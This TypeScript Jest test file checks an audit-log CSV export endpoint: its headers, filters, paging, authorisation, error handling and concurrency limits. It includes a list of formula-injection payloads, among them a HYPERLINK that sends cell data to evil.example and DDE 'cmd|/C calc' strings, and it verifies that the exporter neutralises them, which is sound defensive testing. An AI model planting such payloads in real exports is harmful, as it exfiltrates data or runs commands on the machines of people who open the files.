import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import { setTimeout as delay } from 'node:timers/promises';
import { ALL_EVENTS, type AuditEvent, type AuditPage, AuditStore, AuditTrail } from 'coatcheck';
import { anAuditEvent } from 'coatcheck/testing';
import { TestApp, type Visitor } from './support/app.js';

const HEADER =
  'id,at,last_at,count,type,reason,method,actor_id,subject_id,session_id,via,ip,user_agent,request_id,factor,kind,transport,mail,role,from,to,route';

/** What a program for spreadsheets, or its user, would execute. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Error, click here")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|"/C calc"!A0',
  '-2+3',
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '"=1+1',
  "'=1+1",
  ' \u00a0\u200b=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'Mozilla/5.0 (X11);=1+1',
  'Mozilla/5.0 (X11), "=1+1',
  'Mozilla/5.0\t@SUM(1)',
];

/** Records and cells of CSV, read character by character (RFC 4180). */
function parse(csv: string, separator = ','): string[][] {
  const records: string[][] = [[]];
  let [cell, isQuoted] = ['', false];
  for (let at = 0; at < csv.length; at += 1) {
    const one = csv[at]!;
    if (isQuoted && one === '"' && csv[at + 1] === '"') [cell, at] = [`${cell}"`, at + 1];
    else if (one === '"' && (isQuoted || cell === '')) isQuoted = !isQuoted;
    else if (isQuoted || (one !== separator && one !== '\r' && one !== '\n')) cell += one;
    else {
      if (one !== '\r') records.at(-1)!.push(cell);
      if (one === '\n') records.push([]);
      if (one !== '\r') cell = '';
    }
  }
  return records.slice(0, -1);
}

describe.each(['express', 'fastify'])('GET /audit/export on %s', (adapter) => {
  let app: TestApp;
  let admin: Visitor;
  let store: AuditStore;

  beforeAll(async () => {
    app = await TestApp.start({ AUTH_TYPE: 'session_db_auth', HTTP_ADAPTER: adapter });
    store = app.nest.get(AuditStore);
    await app.addUser('root@example.com', 'admin');
    admin = app.visitor();
    await admin.login('root@example.com');
  });

  beforeEach(async () => {
    await app.nest.get(AuditTrail).flush();
    await store.forget(new Date('2099-01-01T00:00:00.000Z'), 100_000);
    app.clock.advance(600_000);
  });

  afterAll(() => app.stop());

  const download = (query = '', init: RequestInit = {}) =>
    fetch(`${app.root}/api/v1/audit/export${query}`, { ...init, headers: { cookie: admin.cookie! } });
  /** The records without the header. */
  const recordsOf = async (query = '') => {
    const response = await download(query);
    expect(response.status).toBe(200);
    return parse(await response.text()).slice(1);
  };
  const stored = async () => {
    await app.nest.get(AuditTrail).flush();
    return (await store.list(ALL_EVENTS, 100, null)).events;
  };
  /** Replaces `list` of the store while some work runs. */
  const withList = async (list: AuditStore['list'], work: () => Promise<void>) => {
    const own = Object.getOwnPropertyDescriptor(store, 'list');
    store.list = list;
    try {
      await work();
    } finally {
      if (own) Object.defineProperty(store, 'list', own);
      else delete (store as Partial<AuditStore>).list;
    }
  };
  const page = (next: string | null): AuditPage => ({
    events: Array.from({ length: 500 }, () => anAuditEvent()),
    next,
  });

  it('is a file of CSV that no cache keeps, with the names of the columns and each event', async () => {
    const event = anAuditEvent({
      type: 'sign_in_failed',
      count: 3,
      actorId: null,
      sessionId: 'session',
      userAgent: 'Zoë "the fox", 1.0',
      details: { method: 'login', reason: 'wrong_password' },
    });
    await store.append(event);
    const response = await download();
    expect(response.status).toBe(200);
    expect(Object.fromEntries(response.headers)).toMatchObject({
      'content-type': 'text/csv; charset=utf-8; header=present',
      'content-disposition': 'attachment; filename="audit-2026-01-01.csv"',
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
    });
    expect(await response.text()).toBe(
      `${HEADER}\r\n${event.id},${event.at.toISOString()},${event.lastAt.toISOString()},3,sign_in_failed,wrong_password,login,,${event.subjectId},session,http,192.0.2.1,"Zoë ""the fox"", 1.0",request-0001,,,,,,,,\r\n`,
    );
  });

  it('has no line but the header if nothing matches', async () => {
    expect(await (await download('?type=role_changed')).text()).toBe(`${HEADER}\r\n`);
  });

  it('has each of thousands of events once, newest first, and those that the filters match', async () => {
    const noon = new Date('2026-01-01T12:00:00.000Z').getTime();
    const events = Array.from({ length: 2345 }, (_, index) =>
      anAuditEvent({ at: new Date(noon + index * 1000), ip: index % 3 === 0 ? '::1' : '192.0.2.1' }),
    );
    await store.append(...events.slice(0, 1000));
    await store.append(...events.slice(1000, 2000));
    await store.append(...events.slice(2000));
    const idsOf = (wanted: readonly AuditEvent[]) => wanted.map(({ id }) => id).toReversed();
    expect((await recordsOf('?type=sign_in')).map(([id]) => id)).toEqual(idsOf(events));
    const from = events[600]!.at.toISOString();
    expect((await recordsOf(`?ip=::1&type=sign_in&from=${from}`)).map(([id]) => id)).toEqual(
      idsOf(events.slice(600).filter(({ ip }) => ip === '::1')),
    );
  });

  it.each([',', ';', '\t', '|'])(
    'has no cell that a program for spreadsheets executes, if it separates cells by %j',
    async (separator) => {
      for (const formula of FORMULAS)
        await store.append(
          anAuditEvent({ userAgent: formula, requestId: formula, sessionId: formula, actorId: formula }),
          anAuditEvent({ type: 'role_changed', details: { from: formula, to: formula, route: formula } }),
          anAuditEvent({ details: { reason: formula as 'evicted', role: formula, mail: formula } }),
        );
      const csv = await (await download()).text();
      const starts = /^[\s\p{Z}\p{Cf}"“”]*[=+\-@＝＋－＠]|^[\t\r\n]/u;
      expect(FORMULAS.filter((formula) => starts.test(formula)).length).toBeGreaterThan(10);
      const strict = parse(csv, separator).flat();
      const careless = csv.split(/[\r\n]+/).flatMap((line) => line.split(separator));
      expect([...strict, ...careless].filter((cell) => starts.test(cell))).toEqual([]);
      // Nothing is lost but the apostrophes that were put in.
      if (separator === ',')
        expect(
          parse(csv)
            .flat()
            .filter((cell) => cell.includes('HYPERLINK')),
        ).toContain(`'${FORMULAS[0]}`);
    },
  );

  it('is told of in the trail, with who asked for it', async () => {
    await recordsOf();
    const { id } = (await admin.get('/users/me')).body;
    expect(await stored()).toMatchObject([
      { type: 'audit_exported', actorId: id, subjectId: null, via: 'http' },
    ]);
  });

  it('answers HEAD with the same headers, and reads and records nothing', async () => {
    await withList(
      () => Promise.reject(new Error('Nothing should be read.')),
      async () => {
        const response = await download('', { method: 'HEAD' });
        expect([response.status, await response.text()]).toEqual([200, '']);
        expect(response.headers.get('content-type')).toContain('text/csv');
        expect(response.headers.get('content-disposition')).toContain('attachment');
      },
    );
    expect(await stored()).toEqual([]);
  });

  it('is for administrators, and for GET', async () => {
    expect((await app.visitor().get('/audit/export')).status).toBe(401);
    await app.addUser('ann@example.com').catch(() => null);
    const ann = app.visitor();
    await ann.login('ann@example.com');
    expect((await ann.get('/audit/export')).body.code).toBe('role_required');
    expect((await admin.post('/audit/export')).status).toBe(405);
  });

  it.each(['cursor=x', 'limit=10', 'type=nonsense', 'from=yesterday', 'from=2026-02-01&to=2026-01-01'])(
    'refuses ?%s as a problem',
    async (query) => {
      const { status, body } = await admin.get(`/audit/export?${query}`);
      expect([status, body.code]).toEqual([400, 'validation_failed']);
    },
  );

  it('breaks the connection if a later page cannot be read', async () => {
    for (const events of [page('next'), { events: [], next: 'next' }]) {
      let calls = 0;
      await withList(
        async () => {
          calls += 1;
          if (calls > 1) throw new Error('The disk is gone.');
          return events;
        },
        async () => {
          const response = await download();
          expect(response.status).toBe(200);
          await expect(response.text()).rejects.toThrow();
        },
      );
    }
    expect((await download()).status).toBe(200);
  });

  it('is a problem if the first page cannot be read', async () => {
    await withList(
      () => Promise.reject(new Error('The disk is gone.')),
      async () => {
        const { status, body, headers } = await admin.get('/audit/export');
        expect([status, body.code]).toEqual([500, 'internal_error']);
        expect(headers.get('content-disposition')).toBeNull();
      },
    );
    expect(await stored()).toEqual([]);
  });

  it.each(['full', 'empty'])('stops to read %s pages when the client goes away', async (kind) => {
    let calls = 0;
    await withList(
      async () => {
        calls += 1;
        await delay(1);
        return kind === 'full' || calls === 1 ? page('next') : { events: [], next: 'next' };
      },
      async () => {
        const client = new AbortController();
        const response = await download('', { signal: client.signal });
        await response.body!.getReader().read();
        client.abort();
        await delay(300);
        const before = calls;
        await delay(300);
        expect(calls).toBe(before);
      },
    );
  });

  it('reads no further than a client that does not read', async () => {
    let calls = 0;
    const same = page('next');
    await withList(
      async () => {
        calls += 1;
        return same;
      },
      async () => {
        const client = new AbortController();
        const response = await download('', { signal: client.signal });
        expect(response.status).toBe(200);
        // The buffers of both sockets fill up first.
        for (let before = 0; before < calls;) {
          before = calls;
          await delay(500);
        }
        expect(calls).toBeLessThan(300);
        client.abort();
      },
    );
  });

  it('is served four times at a time, and again when one has ended', async () => {
    await withList(
      async () => page('next'),
      async () => {
        const client = new AbortController();
        const running = [];
        for (let count = 0; count < 4; count += 1)
          running.push(await download('', { signal: client.signal }));
        const { status, body, headers } = await admin.get('/audit/export');
        expect([status, body.code, headers.get('retry-after')]).toEqual([429, 'too_many_exports', '30']);
        client.abort();
        await delay(300);
      },
    );
    expect((await download()).status).toBe(200);
  });
});
